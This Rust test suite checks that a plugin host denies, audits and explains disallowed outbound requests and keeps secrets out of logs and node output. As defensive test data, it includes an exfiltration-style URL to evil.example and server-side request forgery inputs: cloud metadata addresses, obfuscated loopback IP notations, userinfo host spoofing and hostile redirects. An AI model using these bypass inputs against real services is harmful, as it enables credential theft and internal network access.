//! Egress through the host, attacked from a node: the test node `fetcher` sends whatever
//! request its params describe, and the real host decides. Every refusal must reach the node
//! as `denied` with a reason that names what was refused and the policy key to set, and must
//! be audited; secrets must reach the server and nothing else (not the node, not a log, not a
//! journal, not the evidence).

use std::path::Path;
use std::process::Output;

use serde_json::{Value, json};

use crate::support::Workspace;
use crate::test_server::TestServer;

/// The value of secret `test_token` (bound to 127.0.0.1). Quotes and a backslash test the
/// JSON escaping of body placement.
const TOKEN: &str = "tok-7Qx\"9\\Zr-SECRET";
/// The value of secret `other_token` (bound to api.example.com only).
const OTHER: &str = "other-V4lu3-SECRET";

/// A workspace whose compiled components are cached where every test (and every test run)
/// finds them: compiling `fetcher` once per test would dominate the suite's time. The cache
/// is keyed by the wasm's SHA-256 and the engine, and written atomically, so sharing is safe.
pub fn workspace(policy: &str) -> Workspace {
    let ws = Workspace::new(policy);
    let shared = std::env::temp_dir().join("abp-tests-component-cache");
    std::fs::create_dir_all(&shared).expect("shared cache dir");
    std::fs::create_dir_all(ws.storage()).expect("storage");
    #[cfg(unix)]
    std::os::unix::fs::symlink(&shared, ws.storage().join("cache")).expect("cache link");
    ws
}

fn policy(server: &TestServer, head: &str, egress: &[&str]) -> String {
    let mut rules = vec![server.url.clone(), "https://allowed.example".to_owned()];
    rules.extend(egress.iter().map(|r| (*r).to_owned()));
    format!(
        r#"{head}
storage = "./storage"
[plugins.fetcher]
egress = {rules:?}
secrets = {{ test_token = {{ env = "ABP_TEST_TOKEN", hosts = ["127.0.0.1"] }}, other_token = {{ env = "ABP_OTHER_TOKEN", hosts = ["api.example.com"] }} }}
"#
    )
}

/// Runs `abp --json COMMAND graph` with one fetcher node per `(id, params)`; returns the run
/// result, after checking that neither secret shows in what `abp` printed.
fn run(ws: &Workspace, command: &str, nodes: &[(&str, Value)]) -> Value {
    let spec = json!({ "graph_id": "egress", "nodes": nodes.iter().map(|(id, params)| json!({
        "node_id": id, "node_type": "fetcher", "params": params })).collect::<Vec<_>>() });
    let graph = ws.graph("g.json", &spec);
    let out = abp(ws, &["--json", command, graph.to_str().unwrap()]);
    assert_no_secret_in_output(&out);
    let result: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "no JSON ({e}): {} {}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    });
    assert_eq!(out.status.code(), Some(0), "{result:#}");
    result
}

fn abp(ws: &Workspace, args: &[&str]) -> Output {
    ws.command(args)
        .env("ABP_TEST_TOKEN", TOKEN)
        .env("ABP_OTHER_TOKEN", OTHER)
        .output()
        .expect("run abp")
}

fn assert_no_secret_in_output(out: &Output) {
    for (what, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
        let text = String::from_utf8_lossy(bytes);
        for secret in [TOKEN, OTHER] {
            assert!(
                !text.contains(secret),
                "a secret value leaked into {what}: {text}"
            );
        }
    }
}

/// No file the run wrote (journal, log, result, evidence, cache) holds a secret value, in any
/// of the forms it travelled in.
fn assert_no_secret_under(dir: &Path) {
    let escaped = serde_json::to_string(TOKEN).unwrap();
    let needles = [TOKEN, &escaped[1..escaped.len() - 1], OTHER];
    let mut files = 0;
    let mut stack = vec![dir.to_owned()];
    while let Some(d) = stack.pop() {
        for entry in std::fs::read_dir(&d).unwrap().flatten() {
            let path = entry.path();
            if path.is_dir() {
                stack.push(path);
                continue;
            }
            files += 1;
            let bytes = std::fs::read(&path).unwrap();
            let text = String::from_utf8_lossy(&bytes);
            for needle in needles {
                assert!(
                    !text.contains(needle),
                    "a secret value is in {}",
                    path.display()
                );
            }
        }
    }
    assert!(
        files > 3,
        "expected the run's files under {}, found {files}",
        dir.display()
    );
}

fn output<'a>(result: &'a Value, id: &str) -> &'a Value {
    &result["node_results"][id]["output"]
}

/// The node's `denied` reason, checked to contain each of `parts`, and the matching audit
/// event (`http.request_denied`, with plugin, method, URL and reason).
fn denied(result: &Value, id: &str, parts: &[&str]) -> String {
    let out = output(result, id);
    assert_eq!(out["error"]["kind"], "denied", "{id}: {out:#}");
    let message = out["error"]["message"].as_str().unwrap().to_owned();
    assert!(message.starts_with("plugin `fetcher`: "), "{id}: {message}");
    for part in parts {
        assert!(
            message.contains(part),
            "{id}: `{part}` missing from: {message}"
        );
    }
    let event = result["audit_events"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["event_type"] == "http.request_denied" && e["node_id"] == id)
        .unwrap_or_else(|| {
            panic!(
                "{id}: no http.request_denied event in {:#}",
                result["audit_events"]
            )
        });
    assert_eq!(event["data"]["plugin"], "fetcher");
    assert!(
        event["data"]["reason"]
            .as_str()
            .is_some_and(|r| !r.is_empty()),
        "{event:#}"
    );
    assert!(
        event["data"]["method"].is_string() && event["data"]["url"].is_string(),
        "{event:#}"
    );
    message
}

#[test]
fn denies_a_host_that_is_not_on_the_list_naming_the_key_to_set() {
    let server = TestServer::start();
    let ws = workspace(&policy(&server, "", &[]));
    let result = run(
        &ws,
        "apply",
        &[(
            "evil",
            json!({ "url": "https://evil.example/steal?token=abc" }),
        )],
    );
    let message = denied(
        &result,
        "evil",
        &[
            "host `evil.example`",
            "matches no egress rule",
            "plugins.fetcher.egress",
            "https://evil.example",
        ],
    );
    assert!(
        message.contains("allowed.example"),
        "the rules are listed: {message}"
    );
    let event = result["audit_events"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["event_type"] == "http.request_denied")
        .unwrap();
    assert_eq!(
        event["data"]["url"], "https://evil.example/steal?[query hidden]",
        "the audit trail drops the query"
    );
    assert!(!event.to_string().contains("token=abc"), "{event:#}");
}

#[test]
fn denies_the_right_host_on_the_wrong_scheme_or_port() {
    let server = TestServer::start();
    let ws = workspace(&policy(&server, "", &[]));
    let result = run(
        &ws,
        "apply",
        &[
            ("scheme", json!({ "url": "http://allowed.example/" })),
            ("port", json!({ "url": "https://allowed.example:8443/" })),
            (
                "local_port",
                json!({ "url": format!("http://127.0.0.1:{}/echo", server.port.wrapping_add(1).max(1)) }),
            ),
        ],
    );
    denied(
        &result,
        "scheme",
        &[
            "is http on port 80",
            "`allowed.example` is allowed only as `https://allowed.example`",
            "add `http://allowed.example`",
        ],
    );
    denied(
        &result,
        "port",
        &[
            "is https on port 8443",
            "add `https://allowed.example:8443`",
        ],
    );
    denied(
        &result,
        "local_port",
        &["127.0.0.1", "plugins.fetcher.egress"],
    );
    assert!(
        server.seen().is_empty(),
        "nothing may reach the server: {:?}",
        server.seen()
    );
}

#[test]
fn denies_userinfo_that_hides_the_real_host() {
    let server = TestServer::start();
    let ws = workspace(&policy(&server, "", &["http://allowed.example"]));
    let result = run(
        &ws,
        "apply",
        &[
            (
                "at",
                json!({ "url": "http://allowed.example@evil.example/" }),
            ),
            (
                "local",
                json!({ "url": format!("http://user:pw@127.0.0.1:{}/echo", server.port) }),
            ),
        ],
    );
    denied(
        &result,
        "at",
        &[
            "userinfo",
            "the host it would really reach is `evil.example`",
            "never sent",
        ],
    );
    let local = denied(&result, "local", &["userinfo"]);
    assert!(!local.contains("pw@"), "userinfo is not echoed: {local}");
    assert!(server.seen().is_empty(), "{:?}", server.seen());
}

#[test]
fn denies_a_name_that_resolves_to_a_loopback_address() {
    let server = TestServer::start();
    // `localhost` is allowed by name, but no rule lists its addresses. (The server's own
    // 127.0.0.1 rule would list it, so this policy leaves it out.)
    let policy = format!(
        "storage = \"./storage\"\n[plugins.fetcher]\negress = [\"http://localhost:{}\"]\n",
        server.port
    );
    let ws = workspace(&policy);
    let result = run(
        &ws,
        "apply",
        &[(
            "lh",
            json!({ "url": format!("http://localhost:{}/echo", server.port) }),
        )],
    );
    let message = denied(
        &result,
        "lh",
        &[
            "`localhost` resolved to",
            "loopback address",
            "plugins.fetcher.egress",
        ],
    );
    assert!(
        message.contains("127.0.0.1") || message.contains("::1"),
        "{message}"
    );
    assert!(server.seen().is_empty(), "{:?}", server.seen());
}

#[test]
fn denies_ip_literals_in_every_notation() {
    let server = TestServer::start();
    let ws = workspace(&policy(&server, "", &[]));
    let result = run(
        &ws,
        "apply",
        &[
            ("v4", json!({ "url": "http://10.0.0.1/" })),
            (
                "metadata",
                json!({ "url": "http://169.254.169.254/latest/meta-data/" }),
            ),
            ("v6", json!({ "url": "http://[::1]/" })),
            (
                "mapped",
                json!({ "url": "http://[::ffff:169.254.169.254]/" }),
            ),
            ("decimal", json!({ "url": "http://2130706433/" })),
            ("octal", json!({ "url": "http://0177.0.0.1/" })),
            ("hex", json!({ "url": "http://0x7f.1/" })),
        ],
    );
    denied(
        &result,
        "v4",
        &["names the IP address 10.0.0.1 (private network) directly"],
    );
    denied(
        &result,
        "metadata",
        &["169.254.169.254 (cloud metadata endpoint)"],
    );
    denied(
        &result,
        "v6",
        &["names the IP address ::1 (loopback) directly"],
    );
    denied(&result, "mapped", &["169.254.169.254"]);
    for id in ["decimal", "octal", "hex"] {
        denied(
            &result,
            id,
            &[
                "names the IP address 127.0.0.1 (loopback) directly",
                "plugins.fetcher.egress",
            ],
        );
    }
}

#[test]
fn follows_redirects_itself_and_denies_a_hop_to_a_host_not_on_the_list() {
    let server = TestServer::start();
    let ws = workspace(&policy(&server, "", &[]));
    let base = &server.url;
    let result = run(
        &ws,
        "apply",
        &[
            (
                "to_evil",
                json!({ "url": format!("{base}/redirect?to=http://evil.example/") }),
            ),
            (
                "to_metadata",
                json!({ "url": format!("{base}/redirect?to=http://169.254.169.254/latest/meta-data/") }),
            ),
            (
                "to_userinfo",
                json!({ "url": format!("{base}/redirect?to=http://allowed.example@evil.example/") }),
            ),
            (
                "to_echo",
                json!({ "url": format!("{base}/redirect303?to=/echo") }),
            ),
        ],
    );
    denied(
        &result,
        "to_evil",
        &[
            &format!("redirect from `{base}/redirect"),
            "host `evil.example`",
            "plugins.fetcher.egress",
        ],
    );
    denied(
        &result,
        "to_metadata",
        &["redirect from", "169.254.169.254 (cloud metadata endpoint)"],
    );
    denied(&result, "to_userinfo", &["redirect from", "userinfo"]);
    let followed = output(&result, "to_echo");
    assert_eq!(followed["status"], 200, "{followed:#}");
    let echo: Value = serde_json::from_str(followed["body"].as_str().unwrap()).unwrap();
    assert_eq!(echo["path"], "/echo");
    assert_eq!(
        server.seen_at("/redirect").len(),
        4,
        "each first hop reached the server"
    );
    assert_eq!(
        server.seen_at("/echo").len(),
        1,
        "only the allowed hop was followed"
    );
}

#[test]
fn a_credential_is_dropped_at_a_redirect_to_a_host_it_is_not_bound_to() {
    let server = TestServer::start();
    // Both names reach the server; the secret is bound to 127.0.0.1 only.
    let ws = workspace(&policy(
        &server,
        "",
        &[&format!("http://localhost:{}", server.port), "::1"],
    ));
    let to = format!("http://localhost:{}/echo", server.port);
    let result = run(
        &ws,
        "apply",
        &[(
            "hop",
            json!({ "url": format!("{}/redirect?to={to}", server.url), "secret": { "name": "test_token", "header": "X-Api-Key" } }),
        )],
    );
    let out = output(&result, "hop");
    assert_eq!(out["status"], 200, "{out:#}");
    let first = &server.seen_at("/redirect")[0];
    assert_eq!(
        first.header("X-Api-Key"),
        Some(TOKEN),
        "the first hop carried the secret"
    );
    let second = &server.seen_at("/echo")[0];
    assert_eq!(
        second.header("X-Api-Key"),
        None,
        "the secret did not follow to another origin: {second:?}"
    );
}

#[test]
fn cuts_off_bodies_over_the_caps_and_slow_answers() {
    let server = TestServer::start();
    let ws = workspace(&policy(&server, "", &[]));
    let base = &server.url;
    let started = std::time::Instant::now();
    let result = run(
        &ws,
        "apply",
        &[
            ("endless", json!({ "url": format!("{base}/endless") })),
            ("declared", json!({ "url": format!("{base}/big") })),
            (
                "upload",
                json!({ "url": format!("{base}/echo"), "method": "POST", "body": "x".repeat((1 << 20) + 1) }),
            ),
            (
                "slow",
                json!({ "url": format!("{base}/slow"), "timeout_ms": 300 }),
            ),
        ],
    );
    for id in ["endless", "declared", "upload"] {
        assert_eq!(
            output(&result, id)["error"]["kind"],
            "too-large",
            "{id}: {:#}",
            output(&result, id)
        );
    }
    assert_eq!(
        output(&result, "slow")["error"]["kind"],
        "timeout",
        "{:#}",
        output(&result, "slow")
    );
    assert!(
        started.elapsed().as_secs() < 15,
        "took {:?}",
        started.elapsed()
    );
    let limits: Vec<&Value> = result["audit_events"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["data"]["limit"] == "too-large")
        .collect();
    assert_eq!(limits.len(), 3, "{:#}", result["audit_events"]);
    assert!(limits.iter().any(|e| {
        e["data"]["reason"]
            .as_str()
            .unwrap()
            .contains("exceeds the cap of 8388608 bytes")
    }));
    assert!(
        server.seen_at("/echo").is_empty(),
        "the oversized upload was not sent"
    );
}

#[test]
fn denies_a_secret_for_a_host_it_is_not_bound_to_or_not_granted() {
    let server = TestServer::start();
    let ws = workspace(&policy(&server, "", &[]));
    let echo = format!("{}/echo", server.url);
    let result = run(
        &ws,
        "apply",
        &[
            (
                "unbound",
                json!({ "url": echo, "secret": { "name": "other_token", "header": "Authorization", "scheme": "Bearer" } }),
            ),
            (
                "ungranted",
                json!({ "url": echo, "secret": { "name": "root_password", "header": "X-Api-Key" } }),
            ),
        ],
    );
    denied(
        &result,
        "unbound",
        &[
            "secret `other_token` may only be sent to `api.example.com`, not to `127.0.0.1`",
            "plugins.fetcher.secrets.other_token.hosts",
        ],
    );
    denied(
        &result,
        "ungranted",
        &[
            "secret `root_password` is not granted to this plugin",
            "plugins.fetcher.secrets.root_password",
        ],
    );
    assert!(server.seen().is_empty(), "{:?}", server.seen());
    assert_no_secret_under(&ws.storage());
}

#[test]
fn a_dry_run_sends_only_get_and_head() {
    let server = TestServer::start();
    let ws = workspace(&policy(&server, "", &[]));
    let echo = format!("{}/echo", server.url);
    let result = run(
        &ws,
        "plan",
        &[
            (
                "post",
                json!({ "url": echo, "method": "POST", "body": "{}" }),
            ),
            ("delete", json!({ "url": echo, "method": "DELETE" })),
            ("get", json!({ "url": echo })),
            ("head", json!({ "url": echo, "method": "HEAD" })),
        ],
    );
    assert_eq!(result["dry_run"], true);
    denied(
        &result,
        "post",
        &[
            "POST",
            "this is a dry run, which sends only GET and HEAD requests",
        ],
    );
    denied(&result, "delete", &["DELETE", "dry run"]);
    assert_eq!(output(&result, "get")["status"], 200);
    assert_eq!(output(&result, "head")["status"], 200);
    let methods: Vec<String> = server.seen().into_iter().map(|s| s.method).collect();
    assert!(
        methods.iter().all(|m| m == "GET" || m == "HEAD") && methods.len() == 2,
        "{methods:?}"
    );
}

#[test]
fn sovereign_mode_lets_no_request_leave() {
    let server = TestServer::start();
    let ws = workspace(&policy(&server, "mode = \"sovereign\"", &[]));
    let result = run(
        &ws,
        "plan",
        &[("get", json!({ "url": format!("{}/echo", server.url) }))],
    );
    denied(
        &result,
        "get",
        &["sovereign mode", "no request leaves the host"],
    );
    assert!(server.seen().is_empty(), "{:?}", server.seen());
}

#[test]
fn an_invalid_egress_rule_fails_the_plan_naming_the_rule() {
    let server = TestServer::start();
    let ws = workspace(&policy(&server, "", &["https://*", "ftp://files.example"]));
    let graph = ws.graph("g.json", &json!({ "graph_id": "bad", "nodes": [
        { "node_id": "a", "node_type": "fetcher", "params": { "url": format!("{}/echo", server.url) } }] }));
    let out = abp(&ws, &["apply", graph.to_str().unwrap()]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains("`plugins.fetcher.egress` rule `https://*` is not valid"),
        "{stderr}"
    );
    assert!(stderr.contains("`ftp://files.example`"), "{stderr}");
    assert!(server.seen().is_empty());
}

#[test]
fn places_a_secret_the_node_never_sees_and_scrubs_its_echo() {
    let server = TestServer::start();
    let ws = workspace(&policy(&server, "", &[]));
    let echo = format!("{}/echo", server.url);
    let result = run(
        &ws,
        "apply",
        &[
            (
                "header",
                json!({ "url": echo, "method": "PUT", "body": "hello", "secret": { "name": "test_token", "header": "X-Api-Key" } }),
            ),
            (
                "bearer",
                json!({ "url": echo, "secret": { "name": "other_token", "header": "Authorization", "scheme": "Bearer" } }),
            ),
            (
                "body",
                json!({ "url": echo, "method": "POST", "headers": { "Content-Type": "application/json" },
                             "body": "{\"login\":\"admin\",\"password\":\"@@PASSWORD@@\"}",
                             "secret": { "name": "test_token", "placeholder": "@@PASSWORD@@" } }),
            ),
        ],
    );
    // The server got the values.
    let puts: Vec<_> = server
        .seen()
        .into_iter()
        .filter(|s| s.method == "PUT")
        .collect();
    assert_eq!(puts.len(), 1);
    assert_eq!(puts[0].header("X-Api-Key"), Some(TOKEN));
    let posts: Vec<_> = server
        .seen()
        .into_iter()
        .filter(|s| s.method == "POST")
        .collect();
    let sent: Value =
        serde_json::from_slice(&posts[0].body).expect("the placed body is still JSON");
    assert_eq!(
        sent["password"], TOKEN,
        "placed JSON-escaped, read back exactly"
    );
    // The bearer secret is bound to another host: denied, and nothing sent for it.
    denied(
        &result,
        "bearer",
        &["secret `other_token` may only be sent to `api.example.com`"],
    );
    assert_eq!(server.seen().len(), 2, "{:?}", server.seen());
    // The node saw the echo with the value scrubbed, in headers and body.
    for id in ["header", "body"] {
        let out = output(&result, id);
        assert_eq!(out["status"], 200, "{id}: {out:#}");
        let text = out.to_string();
        assert!(
            !text.contains("7Qx"),
            "{id}: the node saw the secret: {text}"
        );
        assert!(
            text.contains("[redacted]"),
            "{id}: the echo was scrubbed: {text}"
        );
    }
    let echoed = output(&result, "header")["headers"]
        .as_array()
        .unwrap()
        .iter()
        .find(|h| h[0] == "x-echo-x-api-key")
        .cloned();
    assert_eq!(echoed, Some(json!(["x-echo-x-api-key", "[redacted]"])));
    // Allowed writes are audited, with the secret's name only.
    let writes: Vec<&Value> = result["audit_events"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["event_type"] == "http.request")
        .collect();
    assert_eq!(writes.len(), 2, "{:#}", result["audit_events"]);
    let put = writes
        .iter()
        .find(|e| e["data"]["method"] == "PUT")
        .unwrap();
    assert_eq!(put["data"]["host"], "127.0.0.1");
    assert_eq!(put["data"]["status"], 200);
    assert_eq!(put["data"]["credential"], "test_token");
    // Nothing the run wrote holds a value.
    assert_no_secret_under(&ws.storage());
}
